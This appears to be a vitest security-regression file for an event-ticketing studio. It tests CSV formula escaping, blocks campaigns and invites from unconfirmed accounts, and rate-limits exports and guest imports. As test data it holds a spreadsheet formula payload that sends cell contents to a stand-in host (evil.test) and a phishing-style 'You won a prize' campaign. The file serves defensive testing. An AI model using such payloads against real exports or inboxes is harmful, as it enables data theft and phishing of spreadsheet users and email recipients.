import Papa from "papaparse";
import { and, eq, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { campaignRecipient, emailCampaign, emailMessage, guest, order, user } from "~/db/schema";
import { createTicketCodes } from "~/server/ticket-codes.server";
import { GUEST_FILES, LIST_EXPORTS } from "~/services/guest-list";
import { ORDERS_EXPORTS } from "~/services/host-reports";
import { guestMessages } from "~/texts/guest-messages";
import { addHostMember } from "~/services/studio-access";
import { createEvent } from "../../tests/factories/events";
import { buyTickets, createBuyer } from "../../tests/factories/orders";
import { signInThroughApi } from "../../tests/setup/test-app";
import { studioTestApp } from "../../tests/setup/studio-app";

/**
 * What someone tries against Partner Studio's business features over HTTP: a buyer who writes a
 * formula into what the host exports, a throwaway account that uses the campaign editor to send
 * its own words to someone else's inbox, and the like. Each test is a hole that was open once.
 */
const studio = studioTestApp("abuse");

const send = studio.send;
const codes = createTicketCodes("the abuse tests' ticket secret, long enough");
const DAY = 86_400_000;

describe("a buyer's words in the host's orders file", () => {
  it("keeps a formula as text even when a line break follows it in the same answer", async () => {
    const db = studio.database.db;
    const host = await signInThroughApi(studio.testApp, studio.database, { userType: "host", hostTitle: "The Vaults" });
    const now = new Date();
    const gig = await createEvent(db, { hostId: host.person.id, startsAt: new Date(now.getTime() + 7 * DAY) });
    const buyer = await createBuyer(db, "Mal Ory");
    const sold = await buyTickets(db, { eventId: gig.id, buyer, now, sign: codes.sign });
    // The checkout keeps an answer's line breaks (it trims the ends and cuts it to 500 characters).
    const formula = '=HYPERLINK("https://evil.test/?d="&A2,"Open")\nthanks';
    await db
      .update(order)
      .set({
        buyerName: "@SUM(1+1)\nMal",
        answers: { q1: formula },
        questions: [{ id: "q1", label: "Anything we should know?", required: false, kind: "text" }],
      })
      .where(eq(order.id, sold.orderId));

    const file = await send("/h/reports/orders/export", host.cookie);
    expect(file.status).toBe(200);
    const rows = Papa.parse<string[]>((await file.text()).slice(1), { skipEmptyLines: true }).data;
    const header = rows[0]!;
    const line = rows.find((r) => r.includes(sold.reference))!;
    expect(line[header.indexOf("Anything we should know?")]).toBe(`'${formula}`);
    expect(line[header.indexOf("Buyer")]).toBe("'@SUM(1+1)\nMal");
    // No cell of the file starts with what a spreadsheet runs.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("a campaign from an account whose address nobody confirmed", () => {
  const draft = {
    subject: "You won a prize",
    previewText: "",
    blockKind: "button",
    blockText: "",
    blockUrl: "https://evil.test/claim",
    blockLabel: "Claim it",
    blockEvent: "",
    toBuyers: "on",
  };

  it("sends no test and starts no send until the address is confirmed", async () => {
    const db = studio.database.db;
    // Anyone can sign up with someone else's address and open a Studio: the address is the victim's inbox.
    const host = await signInThroughApi(studio.testApp, studio.database, {
      userType: "host",
      hostTitle: "Prize Desk",
      email: `victim-${Date.now()}@example.com`,
      emailVerified: false,
    });
    const made = await send("/h/promote/email-campaign", host.cookie, { intent: "create" });
    const editor = made.headers.get("Location")!;
    const campaignId = editor.split("/").at(-1)!;

    const test = await send(editor, host.cookie, { ...draft, intent: "test" });
    expect(test.status).toBe(403);
    expect(await test.text()).toContain("Confirm your email address");
    const stored = () =>
      db
        .select({ id: emailMessage.id })
        .from(emailMessage)
        .where(and(eq(emailMessage.toAddress, host.person.email), eq(emailMessage.template, "campaign")));
    expect(await stored()).toEqual([]);

    const now = await send(editor, host.cookie, { ...draft, intent: "send-now" });
    expect(now.status).toBe(403);
    const [row] = await db.select().from(emailCampaign).where(eq(emailCampaign.id, campaignId));
    expect(row).toMatchObject({ status: "draft", subject: "You won a prize" });

    // Confirmed, the same person may test and send (the draft was kept as typed meanwhile).
    await db.update(user).set({ emailVerified: true }).where(eq(user.id, host.person.id));
    expect((await send(editor, host.cookie, { ...draft, intent: "test" })).status).toBe(200);
    expect(await stored()).toHaveLength(1);
    expect((await send(editor, host.cookie, { ...draft, intent: "send-now" })).status).toBe(200);
    const [after] = await db.select().from(emailCampaign).where(eq(emailCampaign.id, campaignId));
    expect(after!.status).toBe("scheduled");
  });
});

describe("a team invitation from an account whose address nobody confirmed", () => {
  it("is refused, and goes out once the address is confirmed", async () => {
    const db = studio.database.db;
    const host = await signInThroughApi(studio.testApp, studio.database, {
      userType: "host",
      hostTitle: "Call This Number Now",
      email: `someone-else-${Date.now()}@example.com`,
      emailVerified: false,
    });
    const stranger = `stranger-${Date.now()}@example.com`;
    const invitations = () =>
      db
        .select({ id: emailMessage.id })
        .from(emailMessage)
        .where(and(eq(emailMessage.toAddress, stranger), eq(emailMessage.template, "team-invitation")));
    const invite = () =>
      send("/h/settings/permissions", host.cookie, { intent: "invite", email: stranger, role: "manager" });

    const refused = await invite();
    expect(refused.status).toBe(403);
    expect(await refused.text()).toContain("Confirm your email address first");
    expect(await invitations()).toEqual([]);

    await db.update(user).set({ emailVerified: true }).where(eq(user.id, host.person.id));
    expect((await invite()).status).toBe(200);
    await expect.poll(async () => (await invitations()).length).toBe(1);
  });
});

describe("a tracked link clicked in a loop", () => {
  it("writes the first click and nothing after it", async () => {
    const db = studio.database.db;
    const host = await signInThroughApi(studio.testApp, studio.database, { userType: "host", hostTitle: "Loop Bar" });
    const [campaign] = await db
      .insert(emailCampaign)
      .values({ hostId: host.person.id, subject: "Hi", status: "sent" })
      .returning();
    const [r] = await db
      .insert(campaignRecipient)
      .values({ campaignId: campaign!.id, email: "reader@example.com", status: "sent", sentAt: new Date() })
      .returning();
    const link = studio.testApp.unsubscribe.campaign.click(r!.id, "https://example.com/gig");
    const version = async () =>
      (await db.execute<{ v: string }>(sql`select xmin::text as v from campaign_recipient where id = ${r!.id}`))
        .rows[0]!.v;
    expect((await studio.testApp.app.request(link, { redirect: "manual" })).status).toBe(302);
    const first = await version();
    for (let i = 0; i < 5; i++)
      expect((await studio.testApp.app.request(link, { redirect: "manual" })).status).toBe(302);
    const pixel = studio.testApp.unsubscribe.campaign.openPixel(r!.id);
    expect((await studio.testApp.app.request(pixel)).status).toBe(200);
    // Each repeat wrote a new version of the row before: a loop of clicks was a loop of writes.
    expect(await version()).toBe(first);
  });
});

describe("the orders file asked for in a loop", () => {
  it("is made a bounded number of times per host, then answers 429 with when to try again", async () => {
    const owner = await signInThroughApi(studio.testApp, studio.database, { userType: "host", hostTitle: "Big Hall" });
    const manager = await signInThroughApi(studio.testApp, studio.database, { firstName: "Max" });
    await addHostMember(studio.database.db, { hostId: owner.person.id, userId: manager.person.id, role: "manager" });
    for (let i = 0; i < ORDERS_EXPORTS.limit; i++) {
      const file = await send("/h/reports/orders/export", i % 2 ? owner.cookie : manager.cookie);
      expect(file.status).toBe(200);
      await file.text();
    }
    // Counted for the host, whoever of its team asks: a second person does not double the work.
    const refused = await send("/h/reports/orders/export", owner.cookie);
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get("Retry-After"))).toBeGreaterThan(0);
    // Another host is not held back.
    const other = await signInThroughApi(studio.testApp, studio.database, {
      userType: "host",
      hostTitle: "Small Room",
    });
    expect((await send("/h/reports/orders/export", other.cookie)).status).toBe(200);
  });
});

describe("guest lists filled and downloaded in a loop", () => {
  it("reads a bounded number of guest files per host, and downloads lists a bounded number of times", async () => {
    const db = studio.database.db;
    const host = await signInThroughApi(studio.testApp, studio.database, { userType: "host", hostTitle: "The Cellar" });
    const gig = await createEvent(db, { hostId: host.person.id, startsAt: new Date(Date.now() + 7 * DAY) });
    const path = `/h/events/${gig.id}/edit/guests`;
    // A script that skips the preview and confirms a new file each time (its own import id).
    const importOnce = (i: number) =>
      send(path, host.cookie, { intent: "import", csv: `Name\nGuest ${i}\n`, importId: crypto.randomUUID() });
    for (let i = 0; i < GUEST_FILES.limit; i++) expect((await importOnce(i)).status).toBe(200);
    const refused = await importOnce(GUEST_FILES.limit);
    expect(refused.status).toBe(429);
    expect(await refused.text()).toContain(guestMessages.tooManyFiles);
    const held = await db
      .select({ n: sql<number>`count(*)::int` })
      .from(guest)
      .where(eq(guest.eventId, gig.id));
    expect(held[0]!.n).toBe(GUEST_FILES.limit);

    // The guest list and the waitlists share one allowance of downloads.
    for (let i = 0; i < LIST_EXPORTS.limit; i++) {
      const file = await send(i % 2 ? `/h/events/${gig.id}/guests/export` : "/h/waitlists/export", host.cookie);
      expect(file.status).toBe(200);
      await file.text();
    }
    for (const file of [`/h/events/${gig.id}/guests/export`, "/h/waitlists/export"]) {
      const past = await send(file, host.cookie);
      expect(past.status).toBe(429);
      expect(Number(past.headers.get("Retry-After"))).toBeGreaterThan(0);
    }
  });
});
